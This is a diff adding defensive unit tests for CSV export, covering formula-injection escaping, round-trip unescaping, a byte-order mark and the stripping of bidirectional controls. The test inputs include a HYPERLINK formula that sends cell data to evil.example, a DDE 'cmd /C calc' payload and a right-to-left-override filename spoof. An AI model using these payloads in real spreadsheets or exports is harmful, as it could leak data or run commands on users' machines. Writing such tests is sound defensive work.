@@ -1,3 +1,4 @@
+import fc from 'fast-check';
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { DEFAULT_SETTINGS, type Person } from '../../../src/domain/types';
@@ -14,6 +15,7 @@ import {
   peopleToCsv,
   safeCell,
   splitName,
+  unescapeCell,
   type CsvWords,
 } from '../../../src/options/csv';
 import { NOW, person } from '../popup/fakes';
@@ -164,5 +166,42 @@ describe('CSV import', () => {
     expect(parsed.headers).toEqual(['Name']);
     expect(parsed.rows).toEqual([{ Name: 'Ana' }]);
     expect(parsed.rowNumbers).toEqual([3]);
+  });
+});
+
+describe('CSV export against formula injection and misread text', () => {
+  it('neutralises every start a spreadsheet could run, full-width and control characters included', () => {
+    for (const start of ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', ' =', '\u3000＝', "'=", "''+"]) {
+      const cell = `${start}HYPERLINK("https://evil.example/?"&A1,"Click")`;
+      expect(safeCell(cell), JSON.stringify(start)).toBe(`'${cell}`);
+    }
+    for (const plain of ['Ana', "O'Reilly", "'quoted'", 'a=b', '1+1', '', ' ', 'x\n=1']) expect(safeCell(plain)).toBe(plain);
+  });
+
+  it('escaping is undone on import, exactly, for any text', () => {
+    fc.assert(
+      fc.property(fc.oneof(fc.string({ unit: 'binary' }), fc.array(fc.constantFrom(...[..."' \t\r\n\0=+-@＝＋－＠﹦﹢﹣﹫\u3000a"]), { maxLength: 6 }).map((cs) => cs.join(''))), (s) => {
+        expect(unescapeCell(safeCell(s))).toBe(s);
+      }),
+    );
+  });
+
+  it('starts with a UTF-8 byte-order mark, which our own import and common parsers skip', () => {
+    const csv = peopleToCsv([person('ana', 'Zoë Müller')]);
+    expect(csv.startsWith('\uFEFFFirst Name,')).toBe(true);
+    expect(new TextEncoder().encode(csv).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
+    expect(parseCsv(csv).headers[0]).toBe('First Name');
+    expect(parseCsv(csv).rows[0]!['First Name']).toBe('Zoë');
+  });
+
+  it("a name's direction controls do not reach the spreadsheet; hostile cells come back as they were", () => {
+    const evil = { ...person('ev', 'Eve \u202Egnp.exe\u202C Smith'), notes: '=cmd|" /C calc"!A0\n＠SUM(1)' };
+    const csv = peopleToCsv([evil]);
+    expect(csv).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
+    const row = parseCsv(csv).rows[0]!;
+    expect(row['First Name']).toBe('Eve');
+    expect(row['Last Name']).toBe('gnp.exe Smith');
+    expect(row['Notes']).toBe(evil.notes);
+    expect(Papa.parse<Record<string, string>>(csv.slice(1), { header: true }).data[0]!['Notes']).toBe(`'${evil.notes}`);
   });
 });
